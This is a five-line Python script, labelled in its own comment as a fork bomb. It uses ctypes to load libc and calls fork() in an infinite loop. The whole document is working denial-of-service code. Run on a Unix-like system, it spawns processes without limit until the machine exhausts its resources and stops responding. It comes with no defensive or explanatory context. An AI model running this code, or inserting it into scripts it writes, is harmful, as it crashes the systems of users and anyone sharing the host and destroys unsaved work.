# Fork bomb through libc's fork called with ctypes.
import ctypes
libc = ctypes.CDLL(None)
while True:
    libc.fork()
